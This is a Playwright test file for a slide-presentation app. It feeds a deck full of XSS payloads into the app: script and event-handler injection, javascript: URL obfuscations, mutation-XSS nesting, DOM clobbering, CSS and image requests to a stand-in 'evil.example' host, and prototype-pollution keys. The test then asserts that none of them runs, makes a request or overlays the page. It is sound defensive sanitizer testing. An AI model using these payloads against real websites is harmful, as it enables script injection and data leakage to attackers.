import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect, test, type Page } from '@playwright/test'
import { startDeckhand, type Deckhand } from './deckhand.ts'
import { slide, visit } from './pages.ts'

/** A deck by somebody who means ill, on every page that shows it. */
test.describe.configure({ mode: 'serial' })

const EVIL = 'http://evil.example'
const ACT = 'window.acted=1'

/** Every class that the pages' own styles know, forty a slide: a deck may use them, and covers nothing with them. */
function classesOfPages(): string[][] {
  const client = fileURLToPath(new URL('../client/', import.meta.url))
  const styles = readdirSync(client, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.css'))
  const text = styles.map((name) => readFileSync(join(client, name), 'utf8')).join('\n')
  const names = [...new Set([...text.matchAll(/\.([a-z][\w-]*)(?=[^{}]*\{)/g)].map(([, name = '']) => name))]
  return Array.from({ length: Math.ceil(names.length / 40) }, (_, index) => names.slice(index * 40, index * 40 + 40))
}

const HTML = [
  `<script>${ACT}</script>`,
  `<img src=x onerror="${ACT}">`,
  `<svg onload="${ACT}"><script>${ACT}</script><foreignObject><iframe srcdoc="<script>parent.acted=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${ACT}"></style></mglyph></table></mtext></math>`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<link rel="stylesheet" href="${EVIL}/style.css"><style>@import "${EVIL}/import.css"; body { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/meta"><base href="${EVIL}/">`,
  `<form action="${EVIL}/form"><input name="code" autofocus onfocus="${ACT}"><button>Run</button></form>`,
  `<video src="${EVIL}/video" autoplay></video><audio src="${EVIL}/audio" autoplay></audio><picture><source srcset="${EVIL}/set"><img src="x"></picture>`,
  `<div style="background: url(${EVIL}/style); position: fixed; inset: 0; z-index: 9999">over everything</div>`,
  `<a href="javascript:${ACT}" id="app" name="console">a link</a> [another](javascript:${ACT}) [data](data:text/html,<script>${ACT}</script>)`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>"></noscript>`,
  `<details open ontoggle="${ACT}"><summary>Open</summary>x</details>`,
  `![remote](${EVIL}/image.png) <img src="//evil.example/image2.png" srcset="${EVIL}/set 2x">`,
  `.a" onmouseover="${ACT}[x] .b[<img src=x onerror=${ACT}>]`,
  `![drawing](drawing.svg)`,
  '```"><script>' + ACT + '</script>\nx\n```',
  `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg' onload='${ACT}'/>#a"/><animate onbegin="${ACT}" attributeName="x" dur="1s"/><a xlink:href="javascript:${ACT}"><text>x</text></a><set attributeName="href" to="javascript:${ACT}"/></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${ACT}"></style></mglyph></form></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${ACT}>"></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ACT}></style></annotation-xml><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${ACT}">x</maction></math>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=y onerror=${ACT}>">a</a></select>`,
  `<xmp><img src=x onerror=${ACT}></xmp> <noembed><img src=x onerror=${ACT}></noembed> <noframes><img src=x onerror=${ACT}></noframes> <!--><img src=x onerror=${ACT}>--> <![CDATA[><img src=x onerror=${ACT}>]]> <?x ><img src=x onerror=${ACT}>?>`,
  `<a href="java&#10;script:${ACT}">a</a> <a href="&#1;javascript:${ACT}">b</a> <a href=" JaVaScRiPt&colon;${ACT}">c</a> <a href="vbscript:x">d</a> [e](<java\tscript:${ACT}>) <a ping="${EVIL}/ping" href="#" target="_top">f</a> <area href="javascript:${ACT}"><a href="blob:x">g</a>`,
  `<button formaction="javascript:${ACT}" autofocus onfocus="${ACT}">a</button><input type="image" src="${EVIL}/input"><keygen autofocus onfocus="${ACT}"><marquee onstart="${ACT}">b</marquee><isindex action="${EVIL}/i"><textarea autofocus onfocus="${ACT}"></textarea><select autofocus onfocus="${ACT}"></select>`,
  `<body onload="${ACT}" background="${EVIL}/body"><frameset onload="${ACT}"></frameset><dialog open id="x">covers</dialog><div popover id="y" onbeforetoggle="${ACT}">z</div><div is="x-y" contenteditable autofocus onfocus="${ACT}" style="animation: x 1s" onanimationstart="${ACT}">w</div>`,
  `<table background="${EVIL}/table"><tr background="${EVIL}/row"><td background="${EVIL}/cell" onclick="${ACT}">x</td></tr></table><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.acted=1'/>" lowsrc="${EVIL}/low" dynsrc="${EVIL}/dyn">`,
  `<link rel="preload" as="image" href="${EVIL}/preload"><link rel="dns-prefetch" href="${EVIL}"><link rel="manifest" href="${EVIL}/manifest"><script type="module">${ACT}</script><script type="importmap">{"imports":{"/main.js":"${EVIL}/map.js"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/rules"]}]}</script>`,
  `<form id="document"><input name="cookie"><input name="getElementById"></form><img name="createElement"><a id="location" href="${EVIL}/clobber"></a><a id="location" name="href" href="${EVIL}/clobber"></a><object id="fetch"></object><div id="app">x</div>`,
  `<p style="background:u\\72l(${EVIL}/escaped)">a</p><p style="width:expression(${ACT})">b</p><p style="color:red;background-image:image-set('${EVIL}/set' 1x)">c</p><p style="margin:0;list-style:url(${EVIL}/list)">d</p><p style="color:var(--x,url(${EVIL}/var))">e</p><p style="cursor:url(${EVIL}/cursor),auto">f</p>`,
  `<div style="margin-left:-5000px;margin-top:-5000px;width:19000px;height:19000px;background-color:red"><a href="${EVIL}/cover" style="width:19000px;height:19000px;font-size:5000px">over everything</a></div>`,
  ...classesOfPages().map((some) => some.map((name) => `<div class="${name}"><a href="${EVIL}/class">${name}</a></div>`).join('\n')),
  '```mermaid {title="<img src=x onerror=' +
    ACT +
    '>"}\nflowchart LR\n  A["<img src=x onerror=' +
    ACT +
    '>"] --> B\n  click A href "javascript:' +
    ACT +
    '"\n  click B call alert()\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(' +
    EVIL +
    '/theme) }", "htmlLabels": true}}%%\nflowchart LR\n  A["<iframe src=' +
    EVIL +
    '/label></iframe>"]\n  style A fill:url(' +
    EVIL +
    '/fill)\n```',
  '```quiz\n<img src=x onerror=' +
    ACT +
    '>?\n- [x] <img src=x onerror=' +
    ACT +
    '>\n  > <script>' +
    ACT +
    '</script>\n- [ ] b\n```\n\n```hint\n<img src=x onerror=' +
    ACT +
    '>\n```\n\n```promql {title="<img src=x onerror=' +
    ACT +
    '>"}\nup{a="<img src=x onerror=' +
    ACT +
    '>"}\n```',
  '```bash {file="<img src=x onerror=' + ACT + '>"}\nls\n```\n\n```html\n<img src=x onerror=' + ACT + '>\n```',
  `[a]: javascript:${ACT} "\\"><img src=x onerror=${ACT}>"\n\n[a] ![b][a] [c](https://x "\\" onmouseover=${ACT} x=") ![d" onerror="${ACT}](x)`,
  `???\n<img src=x onerror="${ACT}"><script>${ACT}</script>`,
]
const PROPERTIES = [
  `background-image: url(${EVIL}/background.png)`,
  `background-image: image-set("${EVIL}/set.png" 1x)`,
  'class: "><script>' + ACT + '</script>',
  `name: "><img src=x onerror=${ACT}>`,
  'name: __proto__\nclass: __proto__ constructor',
  'class: toasts connection-lost unseen',
  `background-color: red; background: url(${EVIL}/color)`,
  `background-size: url(${EVIL}/size)`,
  `background-image: url(${EVIL.slice(5)}/no-scheme.png)`,
  `background-image: url("data:image/svg+xml,<svg onload=${ACT}>")`,
  'template: __proto__',
]
const FRONT = `title: '<img src=x onerror="${ACT}">'\npresenters: ['<script>${ACT}</script>']\nvariables:\n  bad: '<img src=x onerror="${ACT}">'\nmacros:\n  bad: '<script>${ACT}</script><img src="${EVIL}/macro.png" onerror="${ACT}">'`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.acted=1"><script>parent.acted=1</script><image href="${EVIL}/inside.png" width="9" height="9"/><rect width="40" height="40"/></svg>`

let folder: string
let deckhand: Deckhand
const asked: string[] = []
const complaints: string[] = []

test.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'deckhand-hostile-'))
  mkdirSync(join(folder, 'images'))
  writeFileSync(join(folder, 'drawing.svg'), SVG)
  const slides = [...HTML, ...PROPERTIES.map((property) => `${property}\n\ntext`), '{{ bad }} ![:bad](x)']
  writeFileSync(join(folder, 'deck.md'), `---\n${FRONT}\n---\n# Begin\n\n---\n\n${slides.join('\n\n---\n\n')}\n\n---\n\n# The end\n`)
  deckhand = await startDeckhand(['--clusters', 'none', join(folder, 'deck.md')])
})

test.afterAll(async () => {
  await deckhand?.stop()
  await deckhand?.forget()
  rmSync(folder, { recursive: true, force: true })
})

test('nothing of a hostile deck acts, reaches out or covers a page', async ({ browser }) => {
  test.setTimeout(120_000)
  const presenter = await visit(browser, deckhand.console)
  const stage = await visit(browser, deckhand.stage)
  const attendee = await visit(browser, deckhand.join)
  await attendee.getByLabel('Your name').fill('Ada')
  await attendee.getByRole('button', { name: 'Join' }).click()
  const pages = [presenter, stage, attendee]
  for (const page of pages) listen(page)
  await expect(slide(stage)).toContainText('Begin')
  for (let step = 0; step < HTML.length + PROPERTIES.length + 8; step++) {
    await presenter.keyboard.press('ArrowRight')
    const addresses = await slide(stage)
      .locator('a[href]')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
    for (const address of addresses) expect(address).toMatch(/^(?:https?:|#|mailto:)/)
    for (const page of [presenter, attendee]) expect(await outOfPlace(page)).toEqual([])
  }
  for (const page of pages) {
    await expect(slide(page)).toContainText('The end')
    expect(await page.evaluate(() => (window as { acted?: unknown }).acted)).toBeUndefined()
    expect(page.url()).not.toContain('evil')
    const left =
      'script:not([src]), .slides iframe, .slides object, .slides embed, .slides form, .slides link, .slides style, .slides [onerror], .slides svg script'
    expect(await page.locator(left).count()).toBe(0)
    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
  }
  expect(asked).toEqual([])
  expect(complaints).toEqual([])
})

/** What of a slide can be seen, or clicked, outside the place that slides have. */
function outOfPlace(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found = new Set<string>()
    const place = document.querySelector('.deck-viewport')?.getBoundingClientRect()
    for (let x = 5; x < innerWidth; x += innerWidth / 12)
      for (let y = 5; y < innerHeight; y += innerHeight / 12) {
        const element = document.elementFromPoint(x, y)
        if (!place || !element?.closest('.slides')) continue
        const inside = x >= place.left && x <= place.right && y >= place.top && y <= place.bottom
        if (!inside) found.add(element.outerHTML.slice(0, 200))
      }
    return [...found]
  })
}

/** Every request that leaves for elsewhere, also one that a policy would stop: what is stopped was asked for. */
function listen(page: Page): void {
  page.on('request', (request) => {
    if (request.url().includes('evil')) asked.push(request.url())
  })
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text()) && /evil/.test(message.text())) complaints.push(message.text())
  })
  page.on('dialog', (dialog) => void dialog.dismiss())
}
